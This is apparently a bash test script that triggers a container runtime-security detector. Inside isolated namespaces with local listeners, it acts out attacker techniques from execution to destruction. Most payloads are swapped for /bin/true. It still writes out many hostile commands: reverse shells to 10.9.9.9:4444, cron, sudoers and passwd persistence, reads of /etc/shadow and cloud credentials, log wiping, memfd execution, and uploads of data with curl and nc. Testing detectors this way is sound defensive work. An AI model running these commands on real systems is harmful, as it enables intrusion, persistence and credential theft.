#!/bin/bash
# What rules are about, performed as a container's process. Run by record.sh, in namespaces of its own: the addresses are on the
# loopback there, and what would change the machine is opened and not written. `performed.txt` tells which rules it must meet.
cd /root || exit 1
exec 2>/dev/null
say() { printf '%s\n' "$1" >/dev/null; }

# Listeners for what calls out.
python3 -c '
import socket, threading, time
def serve(port):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("0.0.0.0", port)); s.listen(16)
    while True:
        c, _ = s.accept(); c.settimeout(1)
        def eat(c=c):
            try:
                while c.recv(65536): pass
            except OSError: pass
            c.close()
        threading.Thread(target=eat, daemon=True).start()
for port in (22, 80, 2375, 2379, 3333, 4444, 6667, 9050, 10250): threading.Thread(target=serve, args=(port,), daemon=True).start()
open("/run/serving", "w"); time.sleep(60)
' &
server=$!
while [ ! -e /run/serving ]; do sleep 0.1; done

# Execution.
timeout 1 bash -c 'exec 5<>/dev/tcp/10.9.9.9/4444; sh <&5'
timeout 1 python3 -c 'import socket, os, subprocess
s = socket.create_connection(("10.9.9.9", 4444)); os.dup2(s.fileno(), 0); subprocess.call(["/bin/sh", "-c", "true"])'
timeout 1 socat TCP:10.9.9.9:4444 EXEC:/bin/true
echo 'print(1)' | python3 -
echo ZWNobyBoaQo= | base64 -d >/dev/null; (sleep 0.3; echo true) | sh
base64 -d >/tmp/dropped <<'B64'
IyEvYmluL3NoCnRydWUK
B64
cp /usr/bin/true /dev/shm/x; /dev/shm/x
cp /usr/bin/true /tmp/x; /tmp/x
nc -N 10.9.9.9 2375 </dev/null
(printf '#!/bin/sh\ntrue\n'; sleep 0.1) | base64 -w0 >/tmp/text; base64 -d /tmp/text >/tmp/fetched; chmod 755 /tmp/fetched; cp /usr/bin/true /tmp/plain
base64 -w0 /usr/bin/true >/tmp/true64; base64 -d /tmp/true64 >/tmp/decoded; chmod 755 /tmp/decoded; /tmp/decoded

# Persistence.
echo '* * * * * root true' >/etc/cron.d/x
printf '[Service]\nExecStart=/bin/true\n' >/etc/systemd/system/x.service
printf '[Timer]\nOnBootSec=1\n' >/etc/systemd/system/x.timer
echo 'ssh-ed25519 AAAA x' >>/root/.ssh/authorized_keys
echo 'x:x:0:0::/:/bin/sh' >>/etc/passwd
useradd -M y
echo 'auth sufficient pam_permit.so' >>/etc/pam.d/x
echo true >>/root/.bashrc
echo true >/etc/ld.so.preload.new; mv /etc/ld.so.preload.new /etc/ld.so.preload; rm /etc/ld.so.preload
mkdir -p /etc/init.d; echo true >/etc/init.d/x
echo 'SUBSYSTEM=="x", RUN+="/bin/true"' >/etc/udev/rules.d/99-x.rules
mkdir -p /host/etc/cron.d; echo '* * * * * root true' >/host/etc/cron.d/x

# More rights.
exec 9>/proc/sys/kernel/core_pattern; exec 9>&-
mkdir /tmp/newroot; chroot /tmp/newroot /bin/true
mknod /tmp/disk b 250 250
mount -t tracefs tracefs /sys
echo 'x ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/x
cp /usr/bin/true /tmp/suid; chmod 4755 /tmp/suid
setcap cap_net_raw+ep /tmp/suid
sleep 30 & victim=$!
python3 -c '
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True); pid = int(sys.argv[1])
libc.ptrace(16, pid, 0, 0); os.waitpid(pid, 0x40000000); libc.ptrace(17, pid, 0, 0)' $victim
python3 -c '
import os, sys
pid = sys.argv[1]
at = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
with open(f"/proc/{pid}/mem", "rb") as memory: memory.seek(at); memory.read(16)' $victim
kill $victim
perl -e 'exec { "/usr/bin/true" } ""'

mkdir -p /etc/kubernetes/manifests; echo x >/etc/kubernetes/manifests/x.yaml; mv /etc/kubernetes/manifests/x.yaml /etc/kubernetes/manifests/y.yaml
setpriv --reuid 1000 --inh-caps +setuid --ambient-caps +setuid python3 -c 'import os; os.setuid(0)'
timeout 1 nc -lU /run/docker.sock & sleep 0.2; nc -NU /run/docker.sock </dev/null
mkdir -p /run/systemd; timeout 1 nc -lU /run/systemd/private & sleep 0.2; nc -NU /run/systemd/private </dev/null
python3 -c '
import os
script = os.open("/tmp/script", os.O_RDWR | os.O_CREAT, 0o755); os.write(script, b"#!/bin/sh\ntrue\n"); os.close(script)
fd = os.open("/tmp/script", os.O_RDONLY); os.set_inheritable(fd, True); os.execv(f"/dev/fd/{fd}", ["x"])'
exec 9>/proc/sysrq-trigger; exec 9>&-

# Not being seen.
python3 -c '
import os
fd = os.memfd_create("x", 0); os.write(fd, open("/usr/bin/true", "rb").read()); os.execv(f"/proc/self/fd/{fd}", ["x"])'
cp /usr/bin/true /tmp/gone; python3 -c '
import os
fd = os.open("/tmp/gone", os.O_RDONLY); os.unlink("/tmp/gone"); os.execv(f"/proc/self/fd/{fd}", ["gone"])'
cp /usr/bin/rm /tmp/selfless; /tmp/selfless /tmp/selfless
touch /root/.bash_history; rm /root/.bash_history
touch /var/log/auth.log; rm /var/log/auth.log
touch /var/log/wtmp; python3 -c 'open("/var/log/wtmp", "w")'
dmesg --clear --help >/dev/null
shred -u /tmp/plain
cp /usr/bin/sleep /tmp/auditd; /tmp/auditd 30 & sleep 0.2; /bin/kill -9 $!
iptables -P INPUT ACCEPT
touch /tmp/f; chattr +i /tmp/f; chattr -i /tmp/f
touch /etc/open; chmod 777 /etc/open
mkdir /tmp/.hidden; cp /usr/bin/true /tmp/.hidden/x; /tmp/.hidden/x
(exec -a '[kworker/0:1]' /tmp/x)
echo dHJ1ZQo= >/tmp/text; base64 -d /tmp/text | (sleep 0.3; exec sh)
sleep 20 & mount --bind /tmp /proc/$!; umount /proc/$!
python3 -c 'import os; os.memfd_create("y", 0)'

# Credentials.
cat /etc/shadow >/dev/null
echo key >/root/.ssh/id_rsa; cat /root/.ssh/id_rsa >/dev/null
mkdir -p /root/.aws; echo x >/root/.aws/credentials; cat /root/.aws/credentials >/dev/null
mkdir -p /run/secrets/kubernetes.io/serviceaccount; echo x >/run/secrets/kubernetes.io/serviceaccount/token
cat /run/secrets/kubernetes.io/serviceaccount/token >/dev/null
mkdir -p /host/etc/kubernetes/pki; echo x >/host/etc/kubernetes/pki/ca.key; cat /host/etc/kubernetes/pki/ca.key >/dev/null
nc -N 10.9.9.9 2379 </dev/null
curl -s -m 1 http://169.254.169.254/
python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)'
grep -ri password /etc/pam.d >/dev/null

# Looking around, at a terminal.
script -qec "sh -c 'uname -a; whoami; ip addr; ps aux; findmnt; env; find /tmp -perm -4000; pgrep auditd; python3 -c \"
import socket; s = socket.socket(); s.bind((\\\"0.0.0.0\\\", 8000)); s.listen()\"'" /dev/null >/dev/null
nc -N 10.9.9.9 10250 </dev/null

# On to others.
nc -N 10.9.9.9 22 </dev/null
scp -o ConnectTimeout=1 -o BatchMode=yes /tmp/x root@10.9.9.9:/tmp/x

timeout 1 socat TCP-LISTEN:4446,fork TCP:10.9.9.9:80
cp "$(command -v nc.openbsd)" /tmp/quiet; python3 -c '
import os
fd = os.memfd_create("z", 0); os.write(fd, open("/tmp/quiet", "rb").read()); os.execv(f"/proc/self/fd/{fd}", ["z", "-N", "10.9.9.9", "80"])' </dev/null

# Gathering, orders, taking it away.
tar czf /dev/shm/a.tgz /etc/pam.d
openssl enc -aes-256-cbc -k x -in /tmp/x -out /tmp/x.bin
timeout 1 bash -c 'exec 5<>/dev/tcp/10.9.9.9/4444'
timeout 0.5 nc -l 4445
curl -s -m 1 -o /tmp/page http://10.9.9.9/
nc -N 10.9.9.9 9050 </dev/null
nc -N 10.9.9.9 6667 </dev/null
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'
head -c 300000 /dev/urandom >/tmp/loot
curl -s -m 1 -T /tmp/loot http://10.9.9.9/
nc -N 10.9.9.9 80 </tmp/loot
python3 -c 'print("https://transfer.sh/x")' >/dev/null

# What is known by its name alone: other programs under these names.
for name in chisel nmap amicontained hydra crackmapexec sshpass kubectl reboot tcpdump systemctl; do cp /usr/bin/true /tmp/$name; done
/tmp/chisel client h 8080; /tmp/nmap 10.9.9.9; /tmp/amicontained; /tmp/hydra; /tmp/crackmapexec; /tmp/sshpass; /tmp/reboot; /tmp/tcpdump
/tmp/kubectl get secrets; /tmp/kubectl exec -it web -- sh; /tmp/systemctl stop auditd
pkill -x kinsing
cp /usr/bin/bash /tmp/nginx; /tmp/nginx -c 'sh -c true; mkdir -p /srv/up; true >/srv/up/a.php; true'

# Destroying.
cp /usr/bin/true /tmp/xmrig; /tmp/xmrig
nc -N 203.0.113.9 3333 </dev/null
rm -rf --no-preserve-root /nothing
mv /tmp/x /tmp/x.encrypted
echo pay >/tmp/HOW_TO_DECRYPT.txt
kill $server
exit 0
